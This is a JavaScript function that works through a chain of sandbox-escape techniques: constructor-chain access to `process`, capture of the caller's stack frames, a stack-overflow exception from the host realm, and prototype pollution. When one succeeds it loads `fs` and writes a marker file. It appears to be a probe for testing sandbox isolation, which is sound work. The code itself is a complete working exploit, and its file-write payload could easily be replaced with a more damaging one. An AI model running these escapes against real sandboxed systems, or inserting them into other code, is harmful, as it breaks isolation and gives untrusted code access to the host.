async (input) => {
  // From any object of the caller's realm its Function is two steps away, and from there `process`.
  const { marker } = input;
  const errors = [];
  const reach = (get) => {
    const process = get();
    const load = process.mainModule?.require ?? process.mainModule?.constructor?._load ?? process.getBuiltinModule;
    load('fs').writeFileSync(marker, 'by a prototype');
    return 'written';
  };
  const through = (thing) => () => thing.constructor.constructor('return process')();
  const ways = [
    through(globalThis),
    through(input),
    through(console.log),
    through(async () => {}),
    () => {
      // The caller's frames, where the engine shows them.
      const before = Error.prepareStackTrace;
      Error.prepareStackTrace = (_, frames) => frames;
      const frames = new Error('look').stack;
      Error.prepareStackTrace = before;
      for (const frame of frames) {
        const found = frame.getThis?.() ?? frame.getFunction?.();
        if (found) return found.constructor.constructor('return process')();
      }
      throw new Error('no frame of the caller');
    },
    () => {
      // An exception of the caller's realm.
      const deep = () => {
        new Error().stack;
        deep();
      };
      try {
        deep();
      } catch (error) {
        return error.constructor.constructor('return process')();
      }
      throw new Error('no end of the stack');
    },
    () => {
      // What the caller looks at afterwards inherits from here, if it is the same realm.
      const object = (console.log.__proto__ ?? Function.prototype).__proto__;
      object.polluted = 'yes';
      throw new Error('only polluted');
    },
  ];
  for (const way of ways) {
    try {
      return reach(way);
    } catch (error) {
      errors.push(String(error));
    }
  }
  throw new Error(errors.join('; '));
}
